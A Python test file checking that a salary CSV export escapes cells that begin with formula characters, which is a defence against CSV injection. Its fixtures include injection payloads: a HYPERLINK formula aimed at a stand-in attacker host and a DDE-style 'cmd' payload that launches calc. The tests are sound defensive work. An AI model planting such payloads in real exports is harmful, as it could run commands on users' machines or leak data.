"""The CSV export escapes formulas (OWASP, CSV injection), and only them."""

import csv
import io
from urllib.parse import quote

import pytest

from db.salaries.csvfile import EmployeeRow
from db.salaries.store import SalaryStore
from db.sql import Database
from resources.salaries import csv_text


@pytest.fixture
def export(make_client, settings):
    """Factory: load ``rows``, then GET a department's CSV export (its text)."""
    client = make_client(scope=None)  # the export is public

    def get(rows, department):
        database = Database(settings.database_url)
        try:
            SalaryStore(database).replace(
                rows, checksum="0" * 64, source="crafted.csv", skipped=0
            )
        finally:
            database.dispose()
        path = f"/departments/{quote(department, safe='')}/employees.csv"
        result = client.simulate_get(path)
        assert result.status_code == 200
        return result.text

    return get


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_quote_and_is_quoted(start):
    assert csv_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["SMITH", "'T HOOFT", "1ST", " =1", "A=1", ""])
def test_other_cells_are_kept(text):
    assert csv_text(text) == text


def test_the_export_escapes_names_and_titles_that_start_formulas(export):
    hyperlink = '=HYPERLINK("http://evil.example/?x","Click")'
    rows = [
        EmployeeRow("ADAMS, ANN", "CLERK", "FIRE", 5000000),
        EmployeeRow(hyperlink, "CLERK", "FIRE", 100),
        EmployeeRow("BAKER BOB", "+1+cmd|' /C calc'!A0", "FIRE", 200),
        EmployeeRow("COLE CY", "-2+3", "FIRE", 300),
        EmployeeRow("DAY DI", "@SUM(A1:A9)", "FIRE", 400),
        EmployeeRow("\tEVE", "\rTITLE", "FIRE", 500),
        EmployeeRow("1ST FIRST", "'QUOTED", "FIRE", 600),
    ]
    text = export(rows, "FIRE")
    lines = text.split("\r\n")
    assert lines[0] == "name,position_title,department,annual_salary"
    # Unescaped rows are written as before: quoted only where CSV needs it.
    assert '"ADAMS, ANN",CLERK,FIRE,50000.0' in lines
    assert "1ST FIRST,'QUOTED,FIRE,6.0" in lines
    # A row with an escaped cell has every text cell quoted, the number not.
    assert (
        '"\'=HYPERLINK(""http://evil.example/?x"",""Click"")","CLERK","FIRE",1.0'
        in (lines)
    )
    assert '"BAKER BOB","\'+1+cmd|\' /C calc\'!A0","FIRE",2.0' in lines
    exported = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
    assert exported["'" + hyperlink][1] == "CLERK"
    assert exported["COLE CY"][1] == "'-2+3"
    assert exported["DAY DI"][1] == "'@SUM(A1:A9)"
    assert exported["'\tEVE"][1:] == ["'\rTITLE", "FIRE", "5.0"]
    assert len(exported) == len(rows) + 1
    # Every cell a spreadsheet reads starts with something that is not a formula.
    assert not any(cell[:1] in "=+-@\t\r" for row in exported.values() for cell in row)


def test_a_department_that_starts_a_formula_is_escaped_in_every_row(export):
    rows = [
        EmployeeRow("ADAMS ANN", "CLERK", "-DEPT", 100),
        EmployeeRow("BAKER BOB", "=CLERK", "-DEPT", 200),
    ]
    lines = export(rows, "-DEPT").split("\r\n")
    assert lines[1:] == [
        '"ADAMS ANN","CLERK","\'-DEPT",1.0',
        '"BAKER BOB","\'=CLERK","\'-DEPT",2.0',
        "",
    ]
